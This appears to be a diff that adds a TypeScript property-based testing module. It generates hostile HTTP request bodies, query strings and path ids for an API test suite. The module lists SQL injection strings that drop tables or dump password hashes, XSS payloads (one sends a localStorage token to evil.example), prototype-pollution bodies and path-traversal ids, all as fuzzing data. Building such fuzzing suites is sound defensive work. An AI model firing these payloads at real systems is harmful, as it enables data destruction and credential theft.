@@ -1,0 +1,253 @@
+import fc from 'fast-check';
+import { z } from 'zod';
+
+// Generators of hostile requests for the property-based suites: strings, JSON values, bodies
+// guided by the contract's JSON Schema (so that some requests get past validation and reach
+// the services), query strings and path ids.
+
+export const SQL_INJECTIONS = [
+  "' OR 1=1 --",
+  "'; DROP TABLE users; --",
+  "1; DROP TABLE contact_messages; --",
+  "' UNION SELECT email, password_hash FROM users --",
+  '" OR ""="',
+  "admin'--",
+  "1' AND pg_sleep(5) IS NULL --",
+  '$$; DELETE FROM sessions; $$',
+  "%' OR '%'='",
+  'Robert\'); DROP TABLE students;--',
+];
+
+export const SCRIPT_INJECTIONS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(document.cookie)>',
+  'javascript:alert(1)',
+  "</textarea><script>fetch('//evil.example/'+localStorage.token)</script>",
+  '{{constructor.constructor("alert(1)")()}}',
+];
+
+const ODD_STRINGS = [
+  '',
+  ' ',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  'x\udfffy',
+  'null',
+  'undefined',
+  'NaN',
+  'Infinity',
+  '-1',
+  '0',
+  '1e309',
+  '9'.repeat(40),
+  '__proto__',
+  'constructor',
+  'prototype',
+  '../../../etc/passwd',
+  '%00',
+  '%',
+  '\\',
+  '😀👩🏽‍⚕️🇰🇪',
+  'Habari yako? مرحبا 你好',
+  '\u202eevil.exe',
+  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
+  '\r\n\t\v\f',
+  'all',
+  'true',
+  '${7*7}',
+];
+
+/** Odd text that is still a valid JSON string: NUL, unpaired surrogates, bidi, emoji. */
+const EDGE_TEXT = ['a\u0000b', '\u0000', 'x\ud800y', '\udfff', 'Amani\u202eevil', '😀👩🏽‍⚕️🇰🇪', 'Habari مرحبا 你好', "O'Brien", '<b>bold</b>', 'a\\b', 'tab\there'];
+
+export const hostileString: fc.Arbitrary<string> = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...SCRIPT_INJECTIONS, ...ODD_STRINGS) },
+  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
+  // Huge, but under the body limit (413 has its own test).
+  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('x', 'é', '😀', '<', "'"), fc.integer({ min: 201, max: 60_000 })).map(([char, count]) => char.repeat(count)) },
+);
+
+const hostileKey: fc.Arbitrary<string> = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'id', 'is_admin', 'admin_level', 'password_hash', 'created_by', 'toString', 'hasOwnProperty') },
+  { weight: 1, arbitrary: hostileString },
+);
+
+/** An object as written in JSON text: the pairs in order, duplicates and __proto__ kept. */
+export class JsonObject {
+  constructor(readonly entries: [string, JsonAst][]) {}
+}
+export type JsonAst = string | number | boolean | null | JsonAst[] | JsonObject;
+
+/** JSON text of a value; unlike JSON.stringify it keeps '__proto__' keys and duplicates. */
+export function renderJson(value: JsonAst): string {
+  if (value instanceof JsonObject) return `{${value.entries.map(([key, item]) => `${JSON.stringify(key)}:${renderJson(item)}`).join(',')}}`;
+  if (Array.isArray(value)) return `[${value.map(renderJson).join(',')}]`;
+  return JSON.stringify(value);
+}
+
+const hostileNumber = fc.oneof(
+  fc.integer(),
+  fc.double({ noNaN: true, noDefaultInfinity: true }),
+  fc.constantFrom(0, -0, -1, 1, 2 ** 31, 2 ** 31 - 1, -(2 ** 31), Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, 1e308, 5e-324, 0.5),
+);
+
+/** Any JSON value, nested objects and arrays included, with hostile keys and strings. */
+export const hostileJson: fc.Arbitrary<JsonAst> = fc.letrec<{ value: JsonAst }>((tie) => ({
+  value: fc.oneof(
+    { depthSize: 'small', maxDepth: 4 },
+    hostileString,
+    hostileNumber,
+    fc.boolean(),
+    fc.constant(null),
+    fc.array(tie('value'), { maxLength: 5 }),
+    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 5 }).map((entries) => new JsonObject(entries)),
+  ),
+})).value;
+
+/** The JSON Schema of a contract schema, as the OpenAPI document describes it. */
+export interface JsonSchema {
+  type?: string | string[];
+  enum?: unknown[];
+  const?: unknown;
+  anyOf?: JsonSchema[];
+  oneOf?: JsonSchema[];
+  properties?: Record<string, JsonSchema>;
+  required?: string[];
+  items?: JsonSchema;
+  minLength?: number;
+  maxLength?: number;
+  minimum?: number;
+  maximum?: number;
+  format?: string;
+  pattern?: string;
+}
+
+export function jsonSchemaOf(schema: z.ZodType): JsonSchema {
+  return z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any', reused: 'inline' }) as JsonSchema;
+}
+
+const email = fc
+  .tuple(fc.constantFrom('amani', 'juma.k', 'neema_w', 'wanjiru+tulia', "o'brien"), fc.nat({ max: 5000 }), fc.constantFrom('example.org', 'tulia.co.ke'))
+  .map(([name, n, domain]) => `${name}${n}@${domain}`);
+const isoDate = fc.date({ min: new Date('1990-01-01'), max: new Date('2035-12-31'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10));
+const url = fc.constantFrom('https://example.org/help', 'http://tulia.co.ke/a?b=c', 'https://example.org/<script>', 'javascript:alert(1)', 'ftp://example.org', 'data:text/html,<script>alert(1)</script>');
+
+function plausibleString(schema: JsonSchema, name: string): fc.Arbitrary<string> {
+  if (schema.format === 'email') return fc.oneof({ weight: 5, arbitrary: email }, { weight: 1, arbitrary: fc.emailAddress() });
+  if (schema.format === 'date') return isoDate;
+  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern), { size: 'xsmall' });
+  if (/url/.test(name)) return url;
+  const min = Math.max(schema.minLength ?? 0, 0);
+  const max = Math.min(schema.maxLength ?? 60, 60);
+  const text = fc.oneof(
+    { weight: 3, arbitrary: fc.string({ unit: 'grapheme', minLength: Math.max(min, 1), maxLength: Math.max(max, min, 1) }) },
+    { weight: 2, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...SCRIPT_INJECTIONS, 'Amani Wanjiru', 'longenough1', '+254712345678', 'Nairobi') },
+    // Text a form would never send but a client can: in an otherwise valid body it reaches the database.
+    { weight: 1, arbitrary: fc.constantFrom(...EDGE_TEXT) },
+  );
+  return text.filter((value) => value.length >= min);
+}
+
+/** Values that satisfy the schema most of the time; the fields are sometimes hostile instead. */
+export function plausible(schema: JsonSchema, name = ''): fc.Arbitrary<JsonAst> {
+  if (schema.enum) return fc.constantFrom(...(schema.enum as JsonAst[]));
+  if (schema.const !== undefined) return fc.constant(schema.const as JsonAst);
+  const choices = schema.anyOf ?? schema.oneOf;
+  if (choices) return fc.oneof(...choices.map((choice) => plausible(choice, name)));
+  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
+  switch (type) {
+    case 'string':
+      return plausibleString(schema, name);
+    case 'number':
+    case 'integer':
+      return fc.oneof(
+        { weight: 4, arbitrary: fc.integer({ min: Math.max(schema.minimum ?? -3, -3), max: Math.min(schema.maximum ?? 40, 40) }) },
+        { weight: 1, arbitrary: hostileNumber },
+      );
+    case 'boolean':
+      return fc.boolean();
+    case 'null':
+      return fc.constant(null);
+    case 'array':
+      return fc.array(schema.items ? plausible(schema.items, name) : hostileJson, { maxLength: 4 });
+    case 'object':
+      return objectOf(schema);
+    default:
+      return hostileJson;
+  }
+}
+
+/** An object of the schema's fields: required ones always there, any field sometimes hostile. */
+function objectOf(schema: JsonSchema): fc.Arbitrary<JsonAst> {
+  const properties = Object.entries(schema.properties ?? {});
+  const required = new Set(schema.required ?? []);
+  const fields = properties.map(([key, property]) =>
+    fc.tuple(
+      fc.constant(key),
+      fc.oneof({ weight: 8, arbitrary: plausible(property, key) }, { weight: 1, arbitrary: hostileJson }),
+      // Optional fields are left out now and then; required ones rarely.
+      fc.integer({ min: 0, max: required.has(key) ? 19 : 2 }),
+    ),
+  );
+  const extra = fc.oneof({ weight: 6, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(fc.tuple(hostileKey, hostileJson), { minLength: 1, maxLength: 2 }) });
+  return fc.tuple(fc.tuple(...fields), extra).map(([chosen, more]) => {
+    const entries: [string, JsonAst][] = chosen.filter(([, , keep]) => keep !== 0).map(([key, value]) => [key, value]);
+    return new JsonObject([...more, ...entries]);
+  });
+}
+
+const MALFORMED_BODIES = ['{', '{"a":', 'nul', '[1,]', "{'a':1}", '{"a":1}garbage', ' ', '\u0000', '{"a":"\\u0000"}', '{"a":"\\ud800"}', '{"__proto__":{"is_admin":true}}', '{"constructor":{"prototype":{"is_admin":true}}}', '1e999', '-', '"\\x41"'];
+
+/** The text of a body: schema-guided most of the time, else any JSON value or broken JSON. */
+export function bodyText(schema: JsonSchema | undefined): fc.Arbitrary<string> {
+  const guided = schema ? [{ weight: 6, arbitrary: plausible(schema).map(renderJson) }] : [];
+  return fc.oneof(
+    ...guided,
+    { weight: 2, arbitrary: hostileJson.map(renderJson) },
+    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_BODIES) },
+    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
+  );
+}
+
+/** Percent-encodes the UTF-8 bytes of a text; unlike encodeURIComponent it takes lone surrogates. */
+export function percentEncode(text: string): string {
+  return [...Buffer.from(text, 'utf8')].map((byte) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
+}
+
+const RAW_QUERY_JUNK = ['%', '%zz', '&&', '=', 'a[b]=c', 'a[]=1&a[]=2', '__proto__[is_admin]=1', 'constructor[prototype][x]=1', 'search=%00', 'page=1&page=2', '%E2%82', 'x=%ED%A0%80'];
+
+/** A query string (without '?'): the schema's parameters, plausible or hostile, and junk. */
+export function queryText(schema: JsonSchema | undefined): fc.Arbitrary<string> {
+  const properties = Object.entries(schema?.properties ?? {});
+  const asText = (value: JsonAst): string => (typeof value === 'string' ? value : renderJson(value));
+  const known = properties.map(([key, property]) =>
+    fc.option(fc.tuple(fc.constant(key), fc.oneof({ weight: 4, arbitrary: plausible(property, key).map(asText) }, { weight: 1, arbitrary: hostileString })), { freq: 2 }),
+  );
+  const extra = fc.array(fc.tuple(hostileKey, hostileString), { maxLength: 2 });
+  const junk = fc.option(fc.constantFrom(...RAW_QUERY_JUNK), { freq: 2 });
+  return fc.tuple(fc.tuple(...known), extra, junk).map(([chosen, more, raw]) => {
+    const pairs = [...chosen.filter((pair): pair is [string, string] => pair !== null), ...more];
+    const encoded = pairs.map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`);
+    if (raw) encoded.push(raw);
+    return encoded.join('&');
+  });
+}
+
+const HOSTILE_IDS = ['0', '-1', '-2147483648', '2147483647', '2147483648', '99999999999999999999', '1e3', '1.5', '0x10', 'NaN', 'null', 'undefined', '%00', '%20', '1%00', "1'%20OR%20'1'%3D'1", '1%3B%20DROP%20TABLE%20users', '%E2%82%AC', '..%2F..%2Fetc', '%F0%9F%98%80', '%ED%A0%80', '1,2', '[1]', '%7B%7D'];
+
+/** A path id: a small real-looking id most of the time, else something hostile. */
+export const pathId: fc.Arbitrary<string> = fc.oneof(
+  { weight: 4, arbitrary: fc.integer({ min: 1, max: 40 }).map(String) },
+  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_IDS) },
+  { weight: 2, arbitrary: hostileString.filter((value) => value.length > 0 && value.length < 300).map(percentEncode) },
+);
+
+/** A stable 31-bit seed per name, so adding a route does not change the others' cases. */
+export function seedFor(base: number, name: string): number {
+  let hash = base | 0;
+  for (const char of name) hash = Math.imul(hash ^ char.charCodeAt(0), 16_777_619);
+  return hash >>> 1;
+}
